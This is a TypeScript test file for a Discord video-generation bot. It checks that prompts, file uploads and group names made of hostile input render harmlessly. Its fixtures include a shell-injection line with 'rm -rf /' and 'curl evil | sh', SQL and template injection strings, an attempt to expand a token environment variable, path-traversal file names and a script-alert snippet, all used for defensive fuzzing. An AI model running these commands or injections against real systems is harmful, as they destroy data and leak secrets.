import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { textOf } from '../src/emulator/discord/driver/reading.js';
import type { Message } from '../src/emulator/discord/state/world.js';
import { hiddenCharacters, readMarkdown } from './discord/markdown.js';
import { startProduction, type Production } from './support/production.js';
import { labels, stageOf, timeoutMs } from './support/stage.js';

let production: Production;
let stage: ReturnType<typeof stageOf>;
let kite: Buffer;

beforeAll(async () => {
  production = await startProduction();
  stage = stageOf(production);
  kite = await readFile('demo/files/kite.png');
  const guildId = production.discord.guild('Studio').id;
  production.discord.admin.addRole(guildId, { name: 'crew', mentionable: true });
  await production.giveKey('mia');
});
afterAll(async () => {
  expect(production.discord.violations).toEqual([]);
  await production.close();
});

const roleId = () => [...production.discord.guild('Studio').roles.values()].find(({ name }) => name === 'crew')?.id;
const isBot = ({ authorId }: Message) => authorId === production.discord.world.botId;
const everything = () => [...production.discord.world.messages.values()].flatMap((list) => [...list.values()]);

/** The messages of the bot that came or changed while something was done. */
async function answersTo(act: () => Promise<unknown>): Promise<Message[]> {
  const seen = new Set<Message>();
  const stop = production.discord.on('message', ({ message }) => seen.add(message));
  await act();
  stop();
  return [...seen].filter(isBot);
}

/** Nobody is pinged but who asked, nothing hides or turns around, and no line of a member's is more than letters. */
function expectHarmless(messages: readonly Message[]): void {
  for (const message of messages) {
    const { everyone, userIds, roleIds } = message.pings;
    expect({ everyone, roleIds }).toEqual({ everyone: false, roleIds: [] });
    expect(userIds.filter((id) => id !== production.mia.id)).toEqual([]);
    expect(textOf(message)).not.toMatch(hiddenCharacters);
    expect(textOf(message).split('\n').length).toBeLessThan(60);
    for (const { description, filename } of message.attachments) {
      expect(description ?? '').not.toMatch(hiddenCharacters);
      expect(filename).not.toMatch(hiddenCharacters);
    }
  }
}

describe('a prompt', () => {
  const accepted: [string, string][] = [
    ['pings', '@everyone @here <@&ROLE> <#1> ping'],
    ['turns around and hides', 'safe\u202e gnp.exe \u2066x\u2069\u200b\u200e\ufeff\u00ad\u034f\u3164 end'],
    ['formats', '# head\n> quote\n-# small\n- list\n1. one\n**b** __u__ ~~s~~ ||p|| `c` ```js\nx```'],
    ['links', '[free](https://evil.test) https://evil.test <https://evil.test> discord.gg/x'],
    ['is of Discord', '<t:0:R> <:a:123456789012345678> </video:1> <id:home>'],
    ['opens code', `${'`'.repeat(40)} open ${'\\'.repeat(41)}`],
    ['is tall', `tall${'\n'.repeat(2000)}end`],
    ['piles marks up', `p${'\u0301\u0489'.repeat(1500)}iles`],
    ['is of halves', `half \ud83d one \udc00`],
    ['is of emoji', '👨‍👩‍👧‍👦'.repeat(150)],
    ['is a path or a shell', '../../etc/passwd; $(rm -rf /) `id` && curl evil | sh # "\'\u0000'],
    ['is of another system', '{"model":"x"} ${process.env.DISCORD_TOKEN} %s {{7*7}} \'; DROP TABLE jobs;--'],
    ['is as long as it may be', '*'.repeat(4000)],
  ];

  it.each(accepted)(
    'that %s becomes a card, a thread and a video all the same, and harms nothing',
    async (_, words) => {
      const prompt = words.replace('ROLE', roleId() ?? '');
      const before = new Set(everything());
      const shown = await answersTo(async () => {
        expect(textOf(await stage.ask({ prompt }))).toContain('Accepted: ');
        await production.discord.waitForMessage(
          'any',
          (message) => !before.has(message) && textOf(message).includes('**Done** in'),
          { timeoutMs },
        );
      });
      expectHarmless(shown);
      const card = shown.find((message) => textOf(message).includes('A video for'));
      const quoted = /^>>> ([\s\S]*?)\nseedance/m.exec(card ? textOf(card) : '')?.[1] ?? '';
      expect(readMarkdown(quoted).effects).toEqual([]);
      const name = production.discord.thread(card?.id ?? '')?.name ?? '';
      expect(name).not.toMatch(hiddenCharacters);
      expect(name.length).toBeGreaterThan(0);
    },
  );

  it.each([
    ['mentions a member', () => `${production.tom.mention} runs`, 'names assets, not members'],
    ['names what nothing is called, at length', () => `@${'a'.repeat(3990)}`, 'There is no `@aaa'],
    ['counts what is not there, at length', () => `@image${'9'.repeat(3990)}`, 'The prompt names `@image999'],
    ['is blank in every way', () => ' \u200b\n\u2060\t', 'The prompt is empty'],
  ])('that %s is refused in few words, and is not lost', async (_, promptOf, words) => {
    const prompt = promptOf();
    const shown = await answersTo(async () => {
      const refusal = await stage.ask({ prompt });
      expect(textOf(refusal)).toContain(words);
      expect(labels(refusal)).toEqual(['Edit']);
      const form = await (await production.mia.press(refusal, 'Edit')).modal({ timeoutMs });
      expect(JSON.stringify(form.components)).toContain(JSON.stringify(prompt).slice(1, -1));
    });
    expectHarmless(shown);
  });

  it('that is longer than a form can hold stays whole in a file', async () => {
    const { discord, mia } = production;
    const prompt = `${'x'.repeat(3999)}😀${'y'.repeat(1500)}`;
    const refusal = await stage.ask({ prompt });
    expect(textOf(refusal)).toMatch(/^The prompt has 5501 characters; 4000 are the most/);
    const [file] = refusal.attachments;
    if (!file) throw new Error('no file');
    expect(await (await fetch(discord.fileUrl(file))).text()).toBe(prompt);
    const form = await (await mia.press(refusal, 'Edit')).modal({ timeoutMs });
    expect(JSON.stringify(form.components)).toContain(`${'x'.repeat(3999)}"`);
  });
});

describe('a file', () => {
  const names = [
    '../../../../etc/passwd.png',
    '\u202egnp.exe.png',
    '`@everyone` **x** ||y||.png',
    '<@1> <@&2> [x](https://evil.test).png',
    `${'n'.repeat(240)}.png`,
    'a\nb\u0000c\u200b.png',
    '.png',
    'con.png',
    "'; DROP TABLE assets;--.png",
    'image1.png',
  ];

  it('of whatever name gets a plain one, and is kept by its content', async () => {
    const { dataDir, mia } = production;
    for (let index = 0; index < names.length; index += 5) {
      const inputs = names.slice(index, index + 5).map((name, at) => {
        // Each is another file: after its end a PNG may have anything.
        const bytes = Buffer.concat([kite, Buffer.from(`${index + at}`)]);
        return [at === 0 ? 'file' : `file${at + 1}`, { name, bytes }] as const;
      });
      const shown = await answersTo(async () => {
        const reply = await stage.add(Object.fromEntries(inputs));
        expect(textOf(reply).match(/- `@[a-z0-9][a-z0-9_-]{0,31}` \(image\) is ready/g)).toHaveLength(5);
      });
      expectHarmless(shown);
    }
    const kept = await readdir(dataDir, { recursive: true, withFileTypes: true });
    const inFiles = kept.filter((entry) => entry.isFile() && entry.parentPath.includes(`${path.sep}files${path.sep}`));
    expect(inFiles.every(({ name }) => /^[0-9a-f]{64}$/.test(name))).toBe(true);
    const gallery = await (await mia.slash(production.channelId, 'asset list')).reply({ timeoutMs });
    expectHarmless([gallery]);
  });

  const png = (width: number, height: number): Buffer => {
    const header = Buffer.alloc(13);
    header.writeUInt32BE(width, 0);
    header.writeUInt32BE(height, 4);
    header.set([8, 6], 8);
    const chunk = (type: string, data: Buffer) => {
      const length = Buffer.alloc(4);
      length.writeUInt32BE(data.length);
      return Buffer.concat([length, Buffer.from(type, 'latin1'), data, Buffer.alloc(4)]);
    };
    const pixels = chunk('IDAT', deflateSync(Buffer.alloc(1000)));
    return Buffer.concat([kite.subarray(0, 8), chunk('IHDR', header), pixels, chunk('IEND', Buffer.alloc(0))]);
  };
  const refused: [string, () => Buffer, RegExp][] = [
    ['a bomb of pixels', () => png(100_000, 100_000), /is 100000 x 100000 px; each side .* 300 to 6000 px/],
    ['a picture without a size', () => png(0, 0), /cannot be read/],
    ['cut short', () => kite.subarray(0, 20), /cannot be read|no known type/],
    ['a page', () => Buffer.from('<!doctype html><script>alert(1)</script>'), /content of no known type/],
    ['an archive', () => Buffer.from('PK\u0003\u0004'.padEnd(200, '\0'), 'latin1'), /is of type application\/zip/],
    ['a picture in the type of another', () => Buffer.from('GIF89a/*'.padEnd(500, '\0'), 'latin1'), /cannot be read/],
  ];

  it.each(refused)('that is %s is refused with what it really is, and billed by nobody', async (_, bytesOf, reason) => {
    const billed = stage.billed('asset').length;
    const shown = await answersTo(async () => {
      const reply = await stage.add({
        file: { name: '`kite`@everyone.png', bytes: bytesOf(), contentType: 'image/png' },
      });
      expect(textOf(reply)).toMatch(reason);
      expect(textOf(reply)).toContain('Nothing was charged.');
    });
    expectHarmless(shown);
    expect(stage.billed('asset')).toHaveLength(billed);
  });

  it.each([
    ['gone', 404, 'has ended. Attach the file again'],
    ['closed', 503, 'could not be fetched from Discord'],
    ['broken off', 'reset' as const, 'could not be fetched from Discord'],
  ])('whose link is %s is refused with what to do', async (_, answer, words) => {
    const outage = production.discord.switches.cdnOutage(answer);
    const reply = await stage.add({ file: { name: 'kite.png', bytes: kite } });
    outage.end();
    expect(textOf(reply)).toContain(words);
  });
});

describe('a group', () => {
  it.each([
    '@everyone <@&1>',
    '**b** `c` # h',
    '\u202egnp\u200b',
    '../..',
    '[x](https://evil.test)',
    'z\u0301\u0489'.repeat(9),
  ])('called %j is made, listed, found and deleted, and harms nothing', async (name) => {
    const { channelId, mia } = production;
    const shown = await answersTo(async () => {
      const use = async (command: string) =>
        await (await mia.slash(channelId, command, command.endsWith('list') ? {} : { name })).reply({ timeoutMs });
      expect(textOf(await use('group create'))).toContain("is this channel's current group");
      await use('group list');
      const kept = name.replace(/[\u202e\u200b]/g, ' ').trim();
      const found = await mia.autocomplete(channelId, 'group use', 'name', kept.slice(0, 20));
      expect((await found.choices({ timeoutMs })).map((choice) => choice.value)).toContain(kept);
      const asked = await (await mia.slash(channelId, 'group delete', { name: kept })).reply({ timeoutMs });
      expect(textOf(await (await mia.press(asked, 'Delete it')).reply({ timeoutMs }))).toContain('is deleted');
    });
    expectHarmless(shown);
  });
});
